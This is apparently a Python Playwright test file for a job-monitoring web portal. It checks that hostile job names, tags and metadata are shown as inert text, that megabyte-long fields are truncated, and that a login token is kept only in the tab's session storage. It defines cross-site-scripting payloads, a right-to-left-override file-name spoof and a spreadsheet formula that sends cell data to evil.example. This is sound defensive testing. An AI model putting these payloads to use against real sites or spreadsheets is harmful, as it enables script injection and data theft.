"""Names, metadata and tags that would like to be more than text: nothing of them runs, hides or turns what stands around it."""

from __future__ import annotations

import time
from hashlib import sha256

from msgspec.structs import replace
from playwright.async_api import Browser, expect

from ccgateway.simulator.job import Tag
from surfaces.portal.browsing import csv_of, in_browser, portal, saved, site, view

pytestmark = in_browser

SCRIPT = '<img src=x onerror="alert(1)"><script>alert(2)</script><svg onload=alert(3)>'
TURNED = "a\u202egnp.exe\u2066\u0000\u0007\u200b"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HUGE = "<b>" + "A" * (1 << 20)


async def test_hostile_texts_are_shown_as_text_on_every_page(browser: Browser) -> None:
    aurora = site("aurora", jobs=40)
    known = aurora.backend.jobs.get(40)
    assert known is not None
    hostile = replace(
        known,
        id=4711, job_id=4711, user="javascript:alert(4)", project=SCRIPT,
        start_time=int(time.time()) - 5, state="completed", duration=3,
        partition=TURNED, meta_data={"jobName": FORMULA, "jobScript": SCRIPT, "note": HUGE, SCRIPT: TURNED},
        tags=(Tag(1, SCRIPT, TURNED), Tag(2, "javascript:alert(5)", FORMULA)),
    )  # fmt: skip
    aurora.backend.jobs.add(hostile)
    async with portal(aurora) as front, view(browser, front.url) as shown:
        page = await shown.open("/jobs")
        row = page.locator('tr[data-id="aurora:4711"]')
        await expect(row).to_contain_text('<img src=x onerror="alert(1)">')
        assert not await page.locator("main img, main script, main svg").count()
        line = next(one for one in csv_of(await saved(page, page.locator("#csv"))) if one["id"] == "aurora:4711")
        assert line["jobName"] == f"'{FORMULA}"
        assert line["project"] == SCRIPT
        await shown.open("/job/aurora:4711")
        await expect(page.locator(".tag").first).to_contain_text("<img")
        await expect(page.locator("main")).not_to_contain_text("\u202e")
        text = await page.locator("main").inner_text()
        assert "\ufffdgnp.exe" in text
        assert len(await page.locator("main").text_content() or "") < 200_000
        assert not await page.locator("main img, main script, main [onerror], main [onload]").count()
        assert not await page.locator('a[href^="javascript:" i]').count()
        await shown.open("/usage?by=PROJECT&from=2020-01-01T00:00:00&to=2099-01-01T00:00:00")
        await expect(page.locator("table.usage")).to_contain_text("<img src=x")
        assert not await page.locator("main img, main script").count()


async def test_texts_of_a_megabyte_stop_no_page(browser: Browser) -> None:
    aurora = site("aurora", jobs=40)
    known = aurora.backend.jobs.get(40)
    assert known is not None
    aurora.backend.jobs.add(
        replace(
            known,
            id=4712, job_id=4712, user=HUGE, project=HUGE, start_time=int(time.time()) - 5, state="completed", duration=3,
            meta_data={"jobName": HUGE, "jobScript": HUGE, HUGE: HUGE}, tags=(Tag(1, HUGE, HUGE),),
        )
    )  # fmt: skip
    async with portal(aurora) as front, view(browser, front.url) as shown:
        page = await shown.open("/jobs")
        row = page.locator('tr[data-id="aurora:4712"]')
        await expect(row).to_contain_text("more characters")
        assert len(await row.text_content() or "") < 2000
        assert (await row.bounding_box() or {"height": 9999})["height"] < 400
        await row.locator(".job a").click()
        await expect(page.locator("#statistics")).to_be_visible()
        assert len(await page.locator("main").text_content() or "") < 200_000
        await shown.open("/usage?by=USER&from=2020-01-01T00:00:00&to=2099-01-01T00:00:00")
        await expect(page.locator("table.usage")).to_contain_text("more characters")
        assert await page.evaluate("document.documentElement.scrollWidth") <= 1280


async def test_a_token_is_kept_for_the_tab_only_and_leaves_no_trace_in_an_address(browser: Browser) -> None:
    keys = {"script": {"hash": f"sha256:{sha256(b'another').hexdigest()}", "subject": "script", "roles": ["admin"]}}
    async with portal(site("aurora", jobs=30), api_keys=keys) as front, view(browser, front.url) as shown:
        page = await shown.open("/jobs")
        await page.locator("#session").get_by_role("button", name="Use a token").click()
        await page.get_by_label("Token", exact=True).fill("s3cret-token")
        asked = page.expect_request(lambda request: request.headers.get("authorization") == "Bearer s3cret-token")
        async with asked:
            await page.get_by_role("button", name="Use it").click()
        assert "s3cret" not in await page.evaluate("JSON.stringify(localStorage) + document.cookie + location.href")
        other = await page.context.new_page()
        await other.goto(f"{front.url}/sites")
        assert await other.evaluate("sessionStorage.length") == 0
        await page.get_by_role("button", name="Forget token").click()
        assert await page.evaluate("sessionStorage.length") == 0
        shown.complaints[:] = [one for one in shown.complaints if "401" not in one]
